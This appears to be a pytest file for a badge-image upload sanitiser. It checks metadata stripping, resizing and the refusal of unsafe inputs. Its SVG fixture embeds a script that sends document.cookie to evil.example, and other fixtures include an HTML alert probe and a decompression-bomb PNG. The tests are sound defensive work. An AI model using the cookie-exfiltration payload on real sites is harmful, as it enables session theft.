"""Uploaded badge pictures: redrawn as a clean 512×512 PNG, or refused with a reason."""

from __future__ import annotations

import io

import pytest
from PIL import ExifTags, Image, PngImagePlugin

from badges.images.photos import MAX_UPLOAD_BYTES
from badges.images.uploaded_images import ImageRefused, badge_image_from_upload
from tests.badges.images.test_photos import encoded, phone_jpeg, png_declaring

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="512" height="512">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<circle cx="256" cy="256" r="200" fill="gold"/></svg>'
)


def refusal(data: bytes) -> str:
    with pytest.raises(ImageRefused) as caught:
        badge_image_from_upload(data)
    return caught.value.code


def opened(png: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(png))
    assert image.format == "PNG" and image.size == (512, 512) and image.mode == "RGBA"
    return image


def test_a_wide_jpeg_is_fitted_with_transparent_padding_and_no_metadata() -> None:
    png = badge_image_from_upload(phone_jpeg((400, 200)))

    image = opened(png)
    assert image.getpixel((256, 20))[3] == 0  # padding above the 512×256 picture
    assert image.getpixel((256, 500))[3] == 0  # and below
    left, right = image.getpixel((50, 256)), image.getpixel((460, 256))
    assert left[3] == 255 and left[0] > 180  # red half
    assert right[3] == 255 and right[2] > 180  # blue half
    assert len(image.getexif()) == 0 and "icc_profile" not in image.info
    for secret in (b"Exif", b"eXIf", b"PhoneMaker", b"Nathan", b"xmpmeta", b"iCCP", b"home"):
        assert secret not in png


def test_the_phone_orientation_is_applied() -> None:
    image = opened(badge_image_from_upload(phone_jpeg((400, 200), orientation=6)))

    assert image.getpixel((20, 256))[3] == 0  # now tall: padding left and right
    assert image.getpixel((256, 60))[0] > 180  # red on top


def test_a_transparent_png_stays_transparent_and_a_small_one_fills_the_square() -> None:
    logo = Image.new("RGBA", (64, 64), (0, 0, 0, 0))
    logo.paste((20, 90, 40, 255), (16, 16, 48, 48))
    png = encoded(logo, "PNG", pnginfo=_text_chunk("Author", "Sylvie"))

    image = opened(badge_image_from_upload(png))

    assert image.getpixel((10, 10))[3] == 0
    assert image.getpixel((256, 256)) == (20, 90, 40, 255)
    assert "Author" not in image.info


def test_webp_is_taken() -> None:
    image = opened(badge_image_from_upload(encoded(Image.new("RGB", (300, 300), "navy"), "WEBP")))

    assert image.getpixel((0, 0))[3] == 255  # square picture: no padding


def test_same_upload_same_bytes() -> None:
    data = phone_jpeg()

    assert badge_image_from_upload(data) == badge_image_from_upload(data)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(SVG_WITH_SCRIPT, id="svg"),
        pytest.param(b'<?xml version="1.0"?>\n' + SVG_WITH_SCRIPT, id="svg-with-declaration"),
        pytest.param(b"\xef\xbb\xbf  \n<!-- logo -->" + SVG_WITH_SCRIPT, id="svg-bom-comment"),
        pytest.param(
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">' + SVG_WITH_SCRIPT,
            id="svg-doctype",
        ),
        pytest.param(SVG_WITH_SCRIPT.upper(), id="svg-upper-case"),
    ],
)
def test_svg_is_refused_with_its_own_code(data: bytes) -> None:
    assert refusal(data) == "svg"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        pytest.param(b"Mon badge de couture", "not_an_image", id="text"),
        pytest.param(b"<html><body><script>alert(1)</script>", "not_an_image", id="html"),
        pytest.param(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "not_an_image", id="pdf"),
        pytest.param(png_declaring(30000, 30000), "too_many_pixels", id="bomb"),
        pytest.param(png_declaring(8000, 7000), "too_many_pixels", id="56-megapixels"),
        pytest.param(b"\x89PNG" + b"\x00" * MAX_UPLOAD_BYTES, "too_large", id="too-large"),
        pytest.param(encoded(Image.new("RGB", (20, 20), "red"), "GIF"), "unsupported", id="gif"),
        pytest.param(encoded(Image.new("RGB", (20, 20), "red"), "BMP"), "unsupported", id="bmp"),
    ],
)
def test_wrong_uploads_are_refused(data: bytes, code: str) -> None:
    assert refusal(data) == code


def test_a_truncated_png_is_refused() -> None:
    whole = encoded(Image.effect_noise((200, 200), 90), "PNG")

    assert refusal(whole[: len(whole) // 2]) == "not_an_image"


def _text_chunk(key: str, value: str) -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    return info


def test_exif_tags_of_the_source_are_not_in_the_output() -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = "Sylvie Durand"
    data = encoded(Image.new("RGB", (100, 100), "teal"), "PNG", exif=exif)
    assert b"Sylvie" in data

    assert b"Sylvie" not in badge_image_from_upload(data)
